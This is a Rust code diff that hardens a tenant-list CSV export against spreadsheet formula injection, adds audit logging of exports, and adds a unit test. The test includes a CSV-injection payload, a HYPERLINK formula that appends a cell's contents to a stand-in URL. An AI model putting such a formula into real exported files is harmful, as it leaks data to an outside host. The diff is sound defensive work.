@@ -120,12 +120,22 @@ pub fn to_xlsx(rows: &[[String; 11]]) -> anyhow::Result<Vec<u8>> {
     Ok(book.save_to_buffer()?)
 }
 
-/// CSV with a UTF-8 byte-order mark.
+/// A cell a spreadsheet program would read as a formula (`=`, `+`, `-`, `@`, tab or carriage
+/// return first) gets a leading apostrophe, so it is shown as text and never run (OWASP's
+/// advice on CSV injection). The .xlsx export writes strings as strings and needs none of this.
+pub fn neutralise_cell(value: &str) -> std::borrow::Cow<'_, str> {
+    match value.chars().next() {
+        Some('=' | '+' | '-' | '@' | '\t' | '\r') => std::borrow::Cow::Owned(format!("'{value}")),
+        _ => std::borrow::Cow::Borrowed(value),
+    }
+}
+
+/// CSV with a UTF-8 byte-order mark; every cell neutralised (see [`neutralise_cell`]).
 pub fn to_csv(rows: &[[String; 11]]) -> anyhow::Result<Vec<u8>> {
     let mut w = csv::Writer::from_writer(b"\xEF\xBB\xBF".to_vec());
     w.write_record(HEADERS)?;
     for row in rows {
-        w.write_record(row)?;
+        w.write_record(row.iter().map(|c| neutralise_cell(c).into_owned()))?;
     }
     w.into_inner().map_err(|e| anyhow::anyhow!("csv: {e}"))
 }
@@ -138,10 +148,11 @@ pub struct ExportQuery {
 
 /// The tenant list with the given filter as a spreadsheet (park managers of the base, admins).
 #[utoipa::path(get, path = "/api/v1/bases/{id}/tenants/export", tag = "registry", params(("id" = i64, Path), ExportQuery, TenantQuery),
-    responses((status = 200, description = "The .xlsx or .csv file", content_type = "application/octet-stream"), (status = 403), (status = 422)))]
+    responses((status = 200, description = "The .xlsx or .csv file", content((Vec<u8> = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"), (String = "text/csv"))), (status = 403), (status = 422)))]
 #[get("/bases/{id}/tenants/export")]
 pub async fn get_export(
     state: web::Data<AppState>,
+    req: actix_web::HttpRequest,
     identity: Identity,
     path: web::Path<i64>,
     q: web::Query<ExportQuery>,
@@ -157,10 +168,21 @@ pub async fn get_export(
     let due = super::reports::due_period(&state).to_string();
     let filter = filter.into_inner();
     let st = state.clone();
+    let meta = crate::accounts::audit::RequestMeta::from_request(&req);
     let bytes = state
         .db
         .run(move |conn| {
             let rows = rows(conn, &st.tenant_list, &identity, base_id, &filter, &due)?;
+            crate::accounts::audit::record(
+                conn,
+                &meta,
+                crate::accounts::audit::Event::new("tenants_exported").actor(identity.user_id).detail(serde_json::json!({
+                    "base_id": base_id,
+                    "format": if csv { "csv" } else { "xlsx" },
+                    "rows": rows.len(),
+                    "filter": serde_json::to_value(&filter).unwrap_or_default(),
+                })),
+            )?;
             Ok(if csv { to_csv(&rows)? } else { to_xlsx(&rows)? })
         })
         .await?;
@@ -170,4 +192,19 @@ pub async fn get_export(
         .insert_header((header::CONTENT_TYPE, mime))
         .insert_header((header::CONTENT_DISPOSITION, format!("attachment; filename=\"{name}\"")))
         .body(bytes))
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn formula_cells_are_neutralised() {
+        for bad in ["=HYPERLINK(\"http://example.com/?\"&B2,\"x\")", "+1", "-2+3", "@SUM(A1)", "\tx", "\rx"] {
+            assert_eq!(neutralise_cell(bad), format!("'{bad}"));
+        }
+        assert_eq!(neutralise_cell("上海科技"), "上海科技");
+        assert_eq!(neutralise_cell(""), "");
+        assert_eq!(neutralise_cell("a=b"), "a=b");
+    }
 }
